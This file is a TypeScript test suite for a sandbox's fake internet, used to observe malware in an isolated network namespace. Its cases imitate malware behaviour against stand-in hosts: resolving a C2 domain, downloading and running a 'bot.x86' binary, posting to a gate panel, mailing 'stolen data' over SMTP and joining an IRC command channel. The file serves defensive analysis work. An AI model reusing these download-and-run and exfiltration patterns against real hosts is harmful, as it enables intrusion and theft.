import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { TaskNetwork } from '../../src/machinery/host/contracts.js';
import { createTaskNetwork, fakeAddressFor, isFakeAddress } from '../../src/machinery/host/network/index.js';
import {
  assertNoWayOut,
  dialogue,
  holdNetns,
  quietLog,
  remainsOf,
  runHost,
  runIn,
  testId,
  tsharkFields,
} from '../network-helpers.js';

/**
 * The fake internet (route=inetsim) seen from inside a real task namespace, with real clients. The
 * "internet" targets are documentation addresses (198.51.100.0/24, 203.0.113.0/24) and .example/.test
 * names; assertNoWayOut proves first that nothing can leave the namespaces the test made.
 */
describe('task network with the fake internet', () => {
  const id = testId();
  const dir = mkdtempSync(join(tmpdir(), 'nestbox-net-'));
  const pcap = join(dir, 'dump.pcap');
  let network: TaskNetwork;
  let gatewayNetns: string;

  before(async () => {
    network = await createTaskNetwork({ id, route: 'inetsim', internetInterface: '', pcapPath: pcap, log: quietLog });
    gatewayNetns = `${network.netnsName}-gw`;
    await assertNoWayOut(network.netnsName, gatewayNetns, network.gatewayAddress);
  });
  after(async () => {
    await network?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const dig = (...args: string[]) => runIn(network.netnsName, 'dig', ['+tries=1', '+time=3', ...args]);

  it('describes itself: namespace path, addresses and route', () => {
    assert.equal(network.netnsPath, `/run/netns/${network.netnsName}`);
    assert.match(network.guestAddress, /^10\.200\.\d+\.\d+$/);
    assert.equal(network.route, 'inetsim');
  });

  it('resolves every name, over UDP and TCP, at the gateway or any other resolver address', async () => {
    const name = 'c2.malware.example';
    for (const server of [network.gatewayAddress, '198.51.100.53']) {
      for (const transport of ['+notcp', '+tcp']) {
        const answer = await dig(`@${server}`, transport, '+short', name, 'A');
        assert.equal(answer.code, 0, answer.stderr + answer.stdout);
        assert.equal(answer.stdout.trim(), fakeAddressFor(name));
      }
    }
    assert.ok(isFakeAddress(fakeAddressFor(name)));
    assert.notEqual(fakeAddressFor('other.example'), fakeAddressFor(name), 'names get addresses of their own');
  });

  it('never answers NXDOMAIN, gives AAAA an empty answer and MX a mail host', async () => {
    const aaaa = await dig(`@${network.gatewayAddress}`, 'no-such-host.invalid', 'AAAA');
    assert.match(aaaa.stdout, /status: NOERROR/);
    assert.match(aaaa.stdout, /ANSWER: 0,/);
    const mx = await dig(`@${network.gatewayAddress}`, '+short', 'spam.test', 'MX');
    assert.equal(mx.stdout.trim(), '10 mail.spam.test.');
  });

  it('answers HTTP for any host, address and method with a page', async () => {
    const address = fakeAddressFor('www.evil.example');
    const get = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', '-i', '--resolve', `www.evil.example:80:${address}`, 'http://www.evil.example/index.php?id=1']);
    assert.equal(get.code, 0, get.stderr);
    assert.match(get.stdout, /^HTTP\/1\.1 200 OK/);
    assert.match(get.stdout, /<html>/);
    const post = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'POST', '-d', 'k=v', 'http://198.51.100.80/gate.php']);
    assert.equal(post.stdout, '200');
    const odd = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'BEACON', 'http://198.51.100.80/']);
    assert.equal(odd.stdout, '200', 'a method the HTTP parser does not know still gets 200');
  });

  it('serves a runnable tiny ELF for paths that look like downloads, and scripts for scripts', async () => {
    const elfPath = join(dir, 'bot.x86');
    const download = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', '-o', elfPath, 'http://203.0.113.7/bins/bot.x86']);
    assert.equal(download.code, 0, download.stderr);
    const kind = await runHost('file', ['-b', elfPath]);
    assert.match(kind.stdout, /^ELF 64-bit LSB executable, x86-64/);
    chmodSync(elfPath, 0o755);
    assert.equal((await runHost(elfPath, [])).code, 0, 'the served program runs and exits with 0');
    const script = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', 'http://203.0.113.7/install.sh']);
    assert.equal(script.stdout, '#!/bin/sh\nexit 0\n');
  });

  it('answers HTTPS with any name (SNI), and TLS on an unlisted port', async () => {
    const address = fakeAddressFor('bank.example');
    const https = await runIn(network.netnsName, 'curl', ['-sS', '-k', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '--resolve', `bank.example:443:${address}`, 'https://bank.example/login']);
    assert.equal(https.stdout, '200', https.stderr);
    const odd = await runIn(network.netnsName, 'curl', ['-sS', '-k', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', 'https://203.0.113.9:8843/x']);
    assert.equal(odd.stdout, '200', odd.stderr);
    const strict = await runIn(network.netnsName, 'curl', ['-sS', '-m', '5', '--resolve', `bank.example:443:${address}`, 'https://bank.example/']);
    assert.equal(strict.code, 60, 'a client that checks certificates refuses the fake one');
  });

  it('accepts mail over SMTP from banner to QUIT', async () => {
    const result = await dialogue(network.netnsName, { host: fakeAddressFor('mail.victim.example'), port: 25 }, [
      { expect: '^220 ' },
      { send: 'EHLO bot', expect: '250 HELP\\r\\n' },
      { send: 'AUTH LOGIN', expect: '^334 ' },
      { send: 'dXNlcg==', expect: '^334 ' },
      { send: 'cGFzcw==', expect: '^235 ' },
      { send: 'MAIL FROM:<bot@example.test>', expect: '^250 ' },
      { send: 'RCPT TO:<victim@example.test>', expect: '^250 ' },
      { send: 'DATA', expect: '^354 ' },
      { send: 'Subject: hi\r\n\r\nstolen data\r\n.', expect: '^250 .*queued' },
      { send: 'QUIT', expect: '^221 ' },
    ]);
    assert.ok(result.ok, `${result.why}: ${result.received}`);
  });

  it('lets a bot register on IRC, answers PING and JOIN', async () => {
    const result = await dialogue(network.netnsName, { host: '198.51.100.66', port: 6667 }, [
      { send: 'NICK bot123' },
      { send: 'USER bot 0 * :bot', expect: ' 001 bot123 ' },
      { send: 'PING :abc', expect: 'PONG .*:abc' },
      { send: 'JOIN #orders', expect: 'JOIN #orders[\\s\\S]* 366 ' },
      { send: 'QUIT :bye', expect: '^ERROR ' },
    ]);
    assert.ok(result.ok, `${result.why}: ${result.received}`);
    const elsewhere = await dialogue(network.netnsName, { host: '198.51.100.66', port: 4444 }, [
      { send: 'NICK other' },
      { send: 'USER other 0 * :other', expect: ' 001 other ' },
    ]);
    assert.ok(elsewhere.ok, `IRC on an unlisted port is recognised: ${elsewhere.why}`);
  });

  it('greets FTP clients and lets them log in', async () => {
    const result = await dialogue(network.netnsName, { host: '203.0.113.21', port: 21 }, [
      { expect: '^220 ' },
      { send: 'USER anonymous', expect: '^331 ' },
      { send: 'PASS guest', expect: '^230 ' },
      { send: 'QUIT', expect: '^221 ' },
    ]);
    assert.ok(result.ok, `${result.why}: ${result.received}`);
  });

  it('accepts any other TCP port and reads what the sample sends', async () => {
    const payload = 'x'.repeat(100_000);
    const result = await dialogue(network.netnsName, { host: '198.51.100.200', port: 31337 }, [
      { send: payload },
      { send: 'more' },
      { hangUp: true },
    ]);
    assert.ok(result.ok, `${result.why}: the catch-all read everything up to the client's end and closed too`);
    assert.equal(result.received, '', 'the catch-all listens without answering binary it does not know');
  });

  it('answers pings to any address', async () => {
    const ping = await runIn(network.netnsName, 'ping', ['-c', '1', '-W', '2', '203.0.113.99']);
    assert.equal(ping.code, 0, ping.stdout + ping.stderr);
    assert.match(ping.stdout, /from 203\.0\.113\.99/);
  });

  it('keeps the host loopback out of reach', async () => {
    let connections = 0;
    const server = net.createServer((socket) => {
      connections += 1;
      socket.end('host secret\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const attempt = await runIn(network.netnsName, 'curl', ['-sS', '-m', '3', `http://127.0.0.1:${port}/`]);
      assert.equal(attempt.code, 7, 'connection refused: 127.0.0.1 in the task is its own loopback');
      const viaGateway = await runIn(network.netnsName, 'curl', ['-sS', '-m', '3', '-o', '/dev/null', `http://${network.gatewayAddress}:${port}/`]);
      assert.doesNotMatch(viaGateway.stdout, /host secret/);
      assert.equal(connections, 0);
    } finally {
      server.close();
    }
  });

  it('captures everything, with the original addresses, and leaves nothing behind after close', async () => {
    // Traffic right before close must still be in the capture: burst of queries, then close at once.
    const burst = Array.from({ length: 20 }, (_, index) => `burst${index}.flush.test`);
    await runIn(network.netnsName, 'sh', ['-c', burst.map((name) => `dig +tries=1 +time=1 @198.51.100.53 ${name} A >/dev/null`).join(' & ') + ' & wait']);
    // Datagrams nobody answers (UDP other than DNS is dropped by the gateway), sent just before close.
    await runIn(network.netnsName, 'bash', ['-c', 'for i in $(seq 1 200); do echo "last $i" >/dev/udp/198.51.100.9/9999; done']);
    const gateway = holdNetns(gatewayNetns);
    const machine = holdNetns(network.netnsName);
    try {
      await network.close();
      await network.close();
      // Checked as soon as close() resolves: it must not resolve while a process of the network still runs.
      assert.deepEqual(gateway.pids(), [], 'no process left in the gateway namespace');
      assert.deepEqual(machine.pids(), [], 'no process left in the machine namespace');
    } finally {
      gateway.release();
      machine.release();
    }

    const queries = (await tsharkFields(pcap, 'dns.flags.response == 0', ['dns.qry.name', 'ip.dst'])).map(([name, dst]) => `${name} ${dst}`);
    assert.ok(queries.includes(`c2.malware.example ${network.gatewayAddress}`));
    assert.ok(queries.includes('c2.malware.example 198.51.100.53'), 'the capture keeps the address the sample used');
    for (const name of burst) assert.ok(queries.includes(`${name} 198.51.100.53`), `query for ${name} captured`);
    assert.equal((await tsharkFields(pcap, 'udp.dstport == 9999', ['frame.number'])).length, 200, 'the last datagrams are all captured');
    const requests = await tsharkFields(pcap, 'http.request', ['http.host', 'http.request.uri', 'ip.dst']);
    assert.deepEqual(
      requests.find(([host]) => host === 'www.evil.example'),
      ['www.evil.example', '/index.php?id=1', fakeAddressFor('www.evil.example')],
    );
    assert.ok(requests.some(([host, uri]) => host === '203.0.113.7' && uri === '/bins/bot.x86'));
    assert.equal((await tsharkFields(pcap, 'ipv6', ['frame.number'])).length, 0, 'no IPv6 chatter');

    assert.deepEqual(await remainsOf(id), []);
  });
});

describe('fake internet start-up', () => {
  it('refuses a second network with an id in use and accepts it again after close', async () => {
    const id = testId();
    const dir = mkdtempSync(join(tmpdir(), 'nestbox-net-'));
    try {
      const first = await createTaskNetwork({ id, route: 'none', internetInterface: '', pcapPath: join(dir, 'a.pcap'), log: quietLog });
      await assert.rejects(
        createTaskNetwork({ id, route: 'none', internetInterface: '', pcapPath: join(dir, 'b.pcap'), log: quietLog }),
        (error: { kind?: string }) => error.kind === 'conflict',
      );
      assert.equal((await runHost('ip', ['netns', 'exec', first.netnsName, 'true'])).code, 0, 'the first one is untouched');
      await first.close();
      const again = await createTaskNetwork({ id, route: 'none', internetInterface: '', pcapPath: join(dir, 'c.pcap'), log: quietLog });
      await again.close();
      assert.deepEqual(await remainsOf(id), []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses ids that are not short names', async () => {
    for (const id of ['', 'toolongid', 'a b', '../x']) {
      await assert.rejects(
        createTaskNetwork({ id, route: 'inetsim', internetInterface: '', pcapPath: '/nonexistent/x.pcap', log: quietLog }),
        (error: { kind?: string }) => error.kind === 'invalid_input',
      );
    }
  });
});
